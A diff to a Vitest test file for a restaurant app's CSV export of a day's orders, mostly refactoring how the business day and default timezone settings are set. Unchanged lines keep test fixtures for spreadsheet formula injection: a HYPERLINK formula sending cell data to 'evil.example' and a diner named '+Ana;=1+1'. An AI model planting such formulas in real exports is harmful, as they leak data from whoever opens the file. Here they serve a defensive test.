@@ -1,12 +1,12 @@
 import { readOrderLines } from "@tureen/persistence/orders/read-order-lines";
 import { ENDPOINTS } from "@tureen/shared/endpoints";
-import { businessDayOf } from "@tureen/shared/platform/business-day";
+import { businessDayOf, DEFAULT_DAYS } from "@tureen/shared/platform/business-day";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestApi, type TestApi } from "../testing/test-api.ts";
 import { placeOrder } from "../testing/test-restaurant.ts";
 
 const FORMULA = '=HYPERLINK("http://evil.example?"&A1;"bill")';
-const today = new Date().toISOString().slice(0, 10);
+const today = businessDayOf(new Date(), DEFAULT_DAYS);
 const HEADER =
   "order,placed_at,table,status,status_at,cancel_reason,ordered_by,line,dish,options,note,for," +
   "quantity,unit_price,line_total,currency";
@@ -16,8 +16,6 @@ let manager: string;
 beforeAll(async () => {
   api = await startTestApi();
   manager = await api.signIn(api.here, "manager");
-  const days = { timezone: "UTC", dayStartsAt: 0 };
-  await api.call("changeSettings", { cookie: manager, body: days });
   const host = await api.open();
   const { restaurantId, sessionId, diner } = host;
   await api.call("rename", { token: host.accessToken, body: { name: "+Ana;=1+1" } });
@@ -152,8 +150,7 @@ describe("the file of a day's orders", () => {
       expect(await linesOn(day)).toBe(5);
       expect(await linesOn(other)).toBe(0);
     }
-    const body = { timezone: "UTC", dayStartsAt: 0 };
-    await api.call("changeSettings", { cookie: manager, body });
+    await api.call("changeSettings", { cookie: manager, body: DEFAULT_DAYS });
   });
 
   it("is read a few orders at a time, none twice and none left out", async () => {
